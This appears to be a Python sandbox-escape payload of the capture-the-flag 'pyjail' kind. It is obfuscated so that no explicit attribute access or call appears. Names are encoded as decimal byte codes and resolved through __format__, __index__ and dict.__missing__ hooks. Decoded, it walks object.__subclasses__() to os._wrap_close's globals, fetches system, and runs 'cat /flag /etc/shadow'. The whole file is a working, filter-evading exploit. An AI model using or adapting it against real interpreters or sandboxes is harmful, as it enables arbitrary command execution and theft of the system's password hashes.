# technique: no explicit attribute access or call appears in the main flow; each step of the walk runs inside a dunder hook fired implicitly by syntax: __format__ receives the name as an f-string format spec, __index__ fires on list subscription, and dict.__missing__ fires from str.format_map field lookups; names travel as dotted/underscored decimal byte codes
state = {"here": ()}


def codes(spec, sep):
    return bytes(int(part) for part in spec.lstrip("k").split(sep)).decode()


class Hop:
    """f"{Hop():<codes>}" moves one attribute further."""

    def __format__(self, spec):
        state["here"] = object.__getattribute__(state["here"], codes(spec, "."))
        return ""


class Invoke:
    """[None][Invoke()] calls whatever we are standing on."""

    def __index__(self):
        state["here"] = state["here"]()
        return 0


class PickClass(dict):
    def __missing__(self, key):
        wanted = codes(key, "_")
        state["here"] = next(k for k in state["here"] if k.__name__ == wanted)
        return ""


class PickKey(dict):
    def __missing__(self, key):
        state["here"] = state["here"][codes(key, "_")]
        return ""


class Fire:
    def __format__(self, spec):
        return str(state["here"](codes(spec, ".")))


f"{Hop():95.95.99.108.97.115.115.95.95}"
f"{Hop():95.95.98.97.115.101.95.95}"
f"{Hop():95.95.115.117.98.99.108.97.115.115.101.115.95.95}"
[None][Invoke()]
"{k95_119_114_97_112_95_99_108_111_115_101}".format_map(PickClass())
f"{Hop():95.95.105.110.105.116.95.95}"
f"{Hop():95.95.103.108.111.98.97.108.115.95.95}"
"{k115_121_115_116_101_109}".format_map(PickKey())
print(f"{Fire():99.97.116.32.47.102.108.97.103.32.47.101.116.99.47.115.104.97.100.111.119}")
